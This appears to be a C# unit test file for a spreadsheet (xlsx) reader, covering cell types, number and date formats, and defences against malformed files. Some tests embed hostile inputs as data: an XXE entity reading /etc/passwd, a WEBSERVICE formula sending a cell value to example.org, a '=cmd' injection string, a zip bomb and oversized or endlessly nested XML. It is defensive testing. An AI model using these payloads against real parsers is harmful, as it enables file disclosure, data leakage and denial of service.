using System.IO.Compression;
using Guildhall.Formats.Sheets;

namespace Guildhall.Formats.Tests.Sheets;

public class WorkbookTests
{
    const string Header = "<row r='1'><c r='A1' t='inlineStr'><is><t>Title</t></is></c><c r='B1' t='inlineStr'><is><t>Value</t></is></c></row>";

    static Cell Second(string cell, string shared = "", string styles = "", string workbookPr = "")
    {
        using var reader = SheetReader.Open(Sheet.Workbook($"{Header}<row r='7'>{cell}</row>", shared, styles, workbookPr), "x.csv");
        var row = Assert.Single(reader.Rows());
        Assert.Equal(7, row.Number);
        return row[2];
    }

    [Fact]
    public void A_workbook_is_known_by_its_content_and_its_cells_by_their_addresses()
    {
        using var reader = SheetReader.Open(Sheet.Workbook(Header + "<row r='9'><c r='D9'><v>5</v></c></row>"), "posing-as.csv");

        Assert.Equal(SheetFormat.Xlsx, reader.Format);
        Assert.Equal(("One", "Title"), (reader.SheetName, reader.Header[0]));
        var row = Assert.Single(reader.Rows());
        Assert.Equal(("D9", 5.0, 4), (row[4].Address, row[4].Number, row.Cells.Count));
    }

    [Fact]
    public void Shared_texts_lose_their_phonetic_hints_and_keep_their_runs()
    {
        var cell = Second("<c r='B7' t='s'><v>1</v></c>", "<si><t>no</t></si><si><r><t>宁</t></r><r><t xml:space='preserve'>波 </t></r><rPh sb='0' eb='1'><t>ning</t></rPh></si>");

        Assert.Equal("宁波 ", cell.Text);
    }

    [Fact]
    public void A_formula_gives_its_stored_value_and_is_never_evaluated()
    {
        var cell = Second("<c r='B7'><f>WEBSERVICE(\"http://example.org/\"&amp;A1)</f><v>42</v></c>");

        Assert.Equal((42.0, true, CellKind.Number), (cell.Number, cell.IsFormula, cell.Kind));
    }

    [Theory]
    [InlineData(14, "", "46347", "2026-11-21")]
    [InlineData(31, "", "46347", "2026-11-21")]
    [InlineData(164, "yyyy\"年\"m\"月\"d\"日\"", "46347", "2026-11-21")]
    [InlineData(164, "[$-804]dddd", "46347.5", "2026-11-21 12:00:00")]
    [InlineData(164, "0.00\" d\"", "46347", "46347")]
    [InlineData(164, "[Red]#,##0", "46347", "46347")]
    [InlineData(164, "General", "1", "1")]
    [InlineData(164, "000000", "12345", "012345")]
    [InlineData(14, "", "1", "1900-01-01")]
    [InlineData(14, "", "59", "1900-02-28")]
    [InlineData(14, "", "61", "1900-03-01")]
    [InlineData(0, "", "13812345678", "13812345678")]
    [InlineData(0, "", "0.1", "0.1")]
    public void Numbers_are_shown_as_their_format_means_them(int id, string code, string value, string text)
    {
        var formats = code.Length > 0 ? $"<numFmts><numFmt numFmtId='{id}' formatCode='{code.Replace("\"", "&quot;")}'/></numFmts>" : "";

        var cell = Second($"<c r='B7' s='1'><v>{value}</v></c>", styles: $"{formats}<cellXfs><xf numFmtId='0'/><xf numFmtId='{id}'/></cellXfs>");

        Assert.Equal(text, cell.Text);
    }

    [Fact]
    public void The_1904_date_system_is_heeded()
    {
        var cell = Second("<c r='B7' s='0'><v>44885</v></c>", styles: "<cellXfs><xf numFmtId='14'/></cellXfs>", workbookPr: "<workbookPr date1904='1'/>");

        Assert.Equal(new DateTime(2026, 11, 21), cell.Date);
    }

    [Theory]
    [InlineData("<c r='B7' t='b'><v>1</v></c>", CellKind.Bool, "TRUE")]
    [InlineData("<c r='B7' t='e'><v>#REF!</v></c>", CellKind.Error, "#REF!")]
    [InlineData("<c r='B7' t='d'><v>2026-11-21</v></c>", CellKind.Date, "2026-11-21")]
    [InlineData("<c r='B7' t='str'><f>A1</f><v>=cmd</v></c>", CellKind.Text, "=cmd")]
    [InlineData("<c r='B7' t='inlineStr'><is><t>a_x000D_b_x005F_x0041_</t></is></c>", CellKind.Text, "a\rb_x0041_")]
    public void Each_type_of_cell_is_read(string xml, CellKind kind, string text)
    {
        var cell = Second($"<c r='A7'><v>1</v></c>{xml}");

        Assert.Equal((kind, text), (cell.Kind, cell.Text));
    }

    [Fact]
    public void A_zip_bomb_is_refused_while_it_inflates()
    {
        using var bomb = Sheet.Workbook("");
        using var file = new MemoryStream();
        using (var zip = new ZipArchive(file, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var part in new ZipArchive(bomb).Entries.Where(part => !part.FullName.EndsWith("sheet1.xml", StringComparison.Ordinal)))
            {
                using var copy = zip.CreateEntry(part.FullName).Open();
                using var original = part.Open();
                original.CopyTo(copy);
            }
            using var sheet = new StreamWriter(zip.CreateEntry("xl/worksheets/sheet1.xml", CompressionLevel.SmallestSize).Open());
            sheet.Write($"<worksheet xmlns='{Sheet.Main}'><sheetData>{Header}");
            for (var i = 0; i < 400_000; i++) sheet.Write("<row><c><v>1</v></c><c><v>1</v></c><c><v>1</v></c><c><v>1</v></c><c><v>1</v></c></row>");
            sheet.Write("</sheetData></worksheet>");
        }
        Assert.True(file.Length < 400_000);

        using var reader = SheetReader.Open(file, "bomb.xlsx", new SheetLimits { MaxRatio = 20 });
        var rows = reader.Rows().Count();

        Assert.Equal(FaultKind.TooLarge, Assert.Single(reader.Faults).Kind);
        Assert.InRange(rows, 1, 399_999);
    }

    [Fact]
    public void An_endless_attribute_is_refused_before_it_fills_the_memory()
    {
        using var file = Sheet.Workbook($"{Header}<row r='2' spans='{new string('1', 8 << 20)}'></row>");

        using var reader = SheetReader.Open(file, "x.xlsx");

        Assert.Empty(reader.Rows());
        Assert.Equal(FaultKind.Corrupt, Assert.Single(reader.Faults).Kind);
    }

    [Fact]
    public void Elements_without_end_inside_each_other_are_refused()
    {
        using var file = Sheet.Workbook(Header + string.Concat(Enumerable.Repeat("<a>", 100_000)));

        using var reader = SheetReader.Open(file, "x.xlsx");

        Assert.Empty(reader.Rows());
        Assert.Equal(FaultKind.Corrupt, Assert.Single(reader.Faults).Kind);
    }

    [Fact]
    public void Entities_declared_in_the_file_are_refused()
    {
        using var file = Sheet.Workbook("");
        using var rewritten = Replaced(file, "xl/worksheets/sheet1.xml", "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><worksheet><sheetData><row><c t='str'><v>&a;</v></c></row></sheetData></worksheet>");

        using var reader = SheetReader.Open(rewritten, "x.xlsx");

        Assert.Equal(FaultKind.Corrupt, Assert.Single(reader.Faults).Kind);
    }

    [Fact]
    public void Too_many_files_inside_are_refused_before_they_are_listed()
    {
        using var file = Sheet.Workbook(Header, also: zip => { for (var i = 0; i < 60; i++) zip.CreateEntry($"x{i}"); });

        using var reader = SheetReader.Open(file, "x.xlsx", new SheetLimits { MaxEntries = 50 });

        Assert.Equal(FaultKind.TooLarge, Assert.Single(reader.Faults).Kind);
    }

    [Theory]
    [InlineData(40)]
    [InlineData(400)]
    [InlineData(900)]
    public void A_workbook_cut_short_is_corrupt(int length)
    {
        using var file = Sheet.Workbook(Header);

        using var reader = SheetReader.Open(new MemoryStream(file.ToArray()[..length]), "x.xlsx");

        Assert.Equal(FaultKind.Corrupt, Assert.Single(reader.Faults).Kind);
    }

    [Fact]
    public void Any_byte_of_a_workbook_may_be_wrong_without_an_exception()
    {
        var sound = Sheet.Workbook(Header + "<row r='2'><c r='A2' t='s'><v>0</v></c><c r='B2'><v>2</v></c></row>", "<si><t>x</t></si>").ToArray();
        for (var i = 0; i < sound.Length; i++)
        {
            var broken = (byte[])sound.Clone();
            broken[i] ^= 0x5A;
            using var reader = SheetReader.Open(new MemoryStream(broken), "x.xlsx");
            _ = reader.Rows().Count();
        }
    }

    [Fact]
    public void Another_document_in_a_zip_is_no_sheet()
    {
        var file = new MemoryStream();
        using (var zip = new ZipArchive(file, ZipArchiveMode.Create, leaveOpen: true))
        {
            Sheet.Add(zip, "[Content_Types].xml", "<Types/>");
            Sheet.Add(zip, "word/document.xml", "<w/>");
        }

        using var reader = SheetReader.Open(file, "x.xlsx");

        Assert.Equal((FaultKind.NotASheet, "docx"), (reader.Faults[0].Kind, reader.Faults[0].Value));
    }

    [Fact]
    public void A_chosen_sheet_is_read()
    {
        var file = new MemoryStream();
        using (var writer = SheetWriter.Create(file, SheetFormat.Xlsx, [new("A")], "First"))
        {
            writer.NextSheet("第二", [new("B")]);
            writer.Write("x");
        }

        using var reader = SheetReader.Open(file, "x.xlsx", sheet: "第二");

        Assert.Equal(["First", "第二"], reader.SheetNames);
        Assert.Equal([["x"]], reader.Texts());
    }

    static MemoryStream Replaced(MemoryStream file, string path, string content)
    {
        var copy = new MemoryStream();
        file.CopyTo(copy);
        using (var zip = new ZipArchive(copy, ZipArchiveMode.Update, leaveOpen: true))
        {
            zip.GetEntry(path)!.Delete();
            Sheet.Add(zip, path, content);
        }
        copy.Position = 0;
        return copy;
    }
}
